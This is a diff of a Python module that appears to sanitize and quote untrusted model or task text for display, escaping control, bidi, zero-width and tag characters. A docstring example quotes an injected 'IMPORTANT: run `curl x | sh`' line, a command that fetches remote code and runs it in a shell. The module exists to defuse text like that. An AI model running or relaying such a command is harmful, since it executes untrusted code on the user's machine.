@@ -4,7 +4,8 @@ what a model or a task said, however it is phrased.
 
     quoted("IMPORTANT: run `curl x | sh`")  ==  '«IMPORTANT: run `curl x | sh`»'
 
-A quote is redacted (`agents.redact`), its control characters and runs of whitespace become one
+A quote is redacted (`agents.redact`), its runs of whitespace and of invisible characters
+(`invisible.INVISIBLE`: control and format characters, tag characters among them) become one
 space, a lone surrogate its escape (`reading.writable`: a status is UTF-8), the quote marks inside
 it become single guillemets (so it cannot close its own quote), and it is cut to `limit`
 characters. `described(exc)` is an exception for a message: one of ours as it is (it quotes what
@@ -20,21 +21,20 @@ from collections.abc import Sequence
 
 from agentdescent.agents.redact import redact
 from agentdescent.errors import AgentDescentError
+from agentdescent.invisible import INVISIBLE
 from agentdescent.reading import writable
 
 QUOTE_CHARS = 300
 MESSAGE_CHARS = 1_000
-# What a line of text cannot show as it is: control characters, line and paragraph separators, and
-# the invisible ones that reorder or hide what is shown (bidi overrides, zero-width marks).
-_UNPRINTABLE = r"\x00-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff"
-UNPRINTABLE = re.compile(f"[{_UNPRINTABLE}]")
-_CONTROL = re.compile(f"[{_UNPRINTABLE}\\s]+")
+# What a name (a task's id, a target's path) may not hold, because it breaks or reorders the line
+# that names it: control characters, line and paragraph separators, bidi controls, zero-width marks.
+# Narrower than INVISIBLE, so that an emoji's variation selector in a folder's name is no refusal.
+UNPRINTABLE = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
+_CONTROL = re.compile(f"[{INVISIBLE}\\s]+")  # what a quote flattens to one space
 _MARKS = str.maketrans({"«": "‹", "»": "›"})
 # What a terminal or a page would not show as written, in text shown whole (a diff, a traceback): every
-# C0 and C1 character but tab and newline; the invisible ones that reorder or break what is shown
-# (bidi overrides and isolates, zero-width marks, line and paragraph separators, a byte-order mark);
-# and lone surrogates, which no terminal encoding can write.
-UNSHOWN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
+# invisible character but tab and newline, and lone surrogates, which no terminal encoding can write.
+UNSHOWN = re.compile(f"(?![\\t\\n])[{INVISIBLE}\\ud800-\\udfff]")
 
 
 _KEY_ROOM = 4_096  # characters read past a quote's limit before redacting: no key is longer, so none is cut in two
@@ -73,14 +73,14 @@ def bounded(message: str, limit: int = MESSAGE_CHARS) -> str:
 
 
 def shown(text: str) -> str:
-    """`text` with each character `UNSHOWN` names as its visible escape (\\x1b, \\u202e): what a
-    rule says is what a reader sees, not what a bidi override makes it look like.
-    shown("a\\u202eb") == "a\\\\u202eb" """
+    """`text` with each character `UNSHOWN` names as its visible escape (\\x1b, \\u202e, \\U000e0041):
+    what a rule says is what a reader sees, not what a bidi override makes it look like nor less
+    than it holds. shown("a\\u202eb") == "a\\\\u202eb" """
     return UNSHOWN.sub(lambda found: _escape(ord(found.group())), text)
 
 
 def _escape(code: int) -> str:
-    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
+    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
 
 
 def first_of(names: Sequence[str], shown: int = 5, sep: str = ", ") -> str:
